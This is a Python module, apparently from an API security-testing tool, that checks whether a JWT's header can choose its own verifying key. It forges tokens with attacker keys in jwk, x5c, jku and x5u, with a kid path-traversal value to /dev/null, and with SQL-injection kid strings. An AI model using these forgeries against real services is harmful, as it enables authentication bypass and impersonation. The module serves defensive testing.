"""D203: may a token say itself which key verifies it?

1. Tokens are signed with a key of our own, which their header brings along (`jwk`, `x5c`) or says where to fetch
   (`jku`, `x5u`): a listener of ours on loopback.
2. `kid` is a path to a file that is empty, or a line of SQL that gives a key which we know.
3. It counts where such a token is let in. A listener that is asked is a finding as well, of less weight: anybody makes
   the server fetch what he wants.
4. The controls: the genuine token is let in, and a made-up one is refused.
"""

import asyncio
from collections.abc import Iterator
from dataclasses import replace
from typing import Final

from buckler.drill.attack import EVERYWHERE, About, Attack, Clean, Finding, Verdict, Verdicts
from buckler.drill.attacks.listener import listening, word
from buckler.drill.attacks.tokens.forging import Forged, each_signed, judged
from buckler.drill.attacks.tokens.keys import OwnKey
from buckler.drill.attacks.tokens.probe import Stand
from buckler.drill.attacks.tokens.well_known import cracked
from buckler.drill.engagement import Engagement
from buckler.drill.transport.compact import Compact, with_secret, written

ABOUT: Final = About(
    id="D203",
    name="key chosen by the token",
    family="tokens",
    severity="critical",
    sends="Tokens with a key of our own in `jwk`, `x5c`, `jku` or `x5u`, and with a `kid` that is a path or SQL.",
    proves="The header of a token chooses the key that verifies it.",
    cwe=(347, 345),
    owasp=("API2",),
    asvs=("9.1.3",),
    fix="Take keys from a list of your own by `kid`, compared as a plain text; ignore the rest of the header.",
)
_KNOWN: Final = "drill-known-key-" * 4
_EMPTY: Final = "../../../../../../../../dev/null"
_SQL: Final = ("' UNION SELECT '{0}' -- ", "\" UNION SELECT '{0}' -- ", "0 UNION SELECT '{0}'")
_A_MOMENT: Final = 0.05


def _verdicts(on: Engagement) -> Verdicts:
    return each_signed(on, _judge)


async def _judge(on: Engagement, found: Stand, parts: Compact) -> Verdict:
    own = OwnKey()
    verdict = await judged(on, found, (*_with_own_key(own, parts), _with_own_secret(parts), *_by_kid(parts)))
    if not isinstance(verdict, Clean):
        return verdict
    return await _fetched(on, found, parts, own) or await _critical(on, found, parts)


def _with_own_key(own: OwnKey, parts: Compact) -> Iterator[Forged]:
    header = {**parts.header, "alg": "RS256"}
    yield Forged("the key stands in jwk", own.signed({**header, "jwk": own.jwk, "kid": "drill"}, parts.claims))
    yield Forged("the key stands in x5c", own.signed({**header, "x5c": [own.certificate()]}, parts.claims))


def _with_own_secret(parts: Compact) -> Forged:
    jwk = {"kty": "oct", "kid": "drill", "alg": "HS256", "k": written(_KNOWN.encode())}
    header = {**parts.header, "alg": "HS256", "jwk": jwk, "kid": "drill"}
    return Forged("the secret stands in jwk", with_secret(header, parts.claims, _KNOWN.encode()))


def _by_kid(parts: Compact) -> Iterator[Forged]:
    header = {**parts.header, "alg": "HS256"}
    for kid in (_EMPTY, "/dev/null"):
        yield Forged("kid leads to an empty file", with_secret({**header, "kid": kid}, parts.claims, b""))
    for line in _SQL:
        named = {**header, "kid": line.format(_KNOWN)}
        yield Forged("kid is SQL that gives a key", with_secret(named, parts.claims, _KNOWN.encode()))


async def _fetched(on: Engagement, found: Stand, parts: Compact, own: OwnKey) -> Verdict | None:
    """Whether our listener is asked for a key; None where it is not."""
    if not on.sender.is_near:
        return None
    with listening() as listener:
        for member in ("jku", "x5u"):
            path = word()
            header = {**parts.header, member: f"http://127.0.0.1:{listener.port}/{path}", "kid": "drill"}
            exchange = await found.show(on, own.signed(header, parts.claims))
            await asyncio.sleep(_A_MOMENT)
            if listener.has_heard(path):
                words = f"A listener on loopback was asked for the key, as {member} of the header said."
                name, kind = found.credential.who.name, found.credential.kind
                return Finding(EVERYWHERE, words, exchange, found.controls, name, kind, "high")
    return None


async def _critical(on: Engagement, found: Stand, parts: Compact) -> Verdict:
    """Extensions that have to be understood (RFC 7515 section 4.1.11). Only where tokens can be signed at all."""
    secret = cracked(on, parts)
    if secret is None:
        return Clean(EVERYWHERE, found.credential.who.name)
    header = {**parts.header, "crit": ["drill"], "drill": 1}
    forged = Forged("crit names what nobody knows", with_secret(header, parts.claims, secret))
    verdict = await judged(on, found, [forged], "low")
    if not isinstance(verdict, Finding):
        return verdict
    return replace(verdict, words="A token is let in whose crit names an extension that nobody knows.")


ATTACK: Final = Attack(ABOUT, _verdicts, spends=True)
